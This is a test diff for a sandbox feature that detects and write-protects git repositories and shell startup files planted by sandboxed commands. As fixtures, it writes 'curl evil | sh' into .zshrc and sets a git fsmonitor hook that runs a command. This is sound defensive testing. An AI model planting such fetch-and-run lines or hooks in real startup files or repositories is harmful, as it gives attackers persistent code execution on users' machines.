@@ -135,3 +135,44 @@ describe('a writable root that holds the home directory', () => {
     expect(outside.explanation).toMatch(/writes outside/);
   });
 });
+
+describe('checkPlanted', () => {
+  it('reports a repository and a startup file a command made, once, and protects them from then on', async () => {
+    const home = directory();
+    fs.writeFileSync(path.join(home, '.bashrc'), '# original\n');
+    process.env.HOME = home;
+    const sandbox = createSandbox({ mode: 'required', writableRoots: [home] });
+    const inside = async (script: string) => {
+      const wrapped = await sandbox.wrap({
+        file: 'bash',
+        args: ['-c', script],
+        cwd: home,
+        env: process.env,
+      });
+      const result = spawnSync(wrapped.file, [...wrapped.args], {
+        cwd: home,
+        env: wrapped.env,
+        encoding: 'utf8',
+      });
+      return result.stdout + result.stderr;
+    };
+    expect(sandbox.checkPlanted?.()).toEqual([]);
+    await inside('git init -q project/sub && echo "curl evil | sh" > .zshrc && echo made');
+    expect(sandbox.checkPlanted?.()).toEqual([
+      path.join(home, 'project/sub/.git'),
+      path.join(home, '.zshrc'),
+    ]);
+    expect(sandbox.checkPlanted?.()).toEqual([]);
+    const output = await inside(
+      'git -C project/sub config core.fsmonitor "touch /var/tmp/x"; echo more >> .zshrc',
+    );
+    expect(output).toMatch(/could not lock config file .*Read-only file system/);
+    expect(output).toMatch(/\.zshrc: Read-only file system/);
+    await sandbox.close();
+  });
+
+  it('is empty when the sandbox is off', () => {
+    const sandbox = createSandbox({ mode: 'off', writableRoots: [directory()] });
+    expect(sandbox.checkPlanted?.()).toEqual([]);
+  });
+});
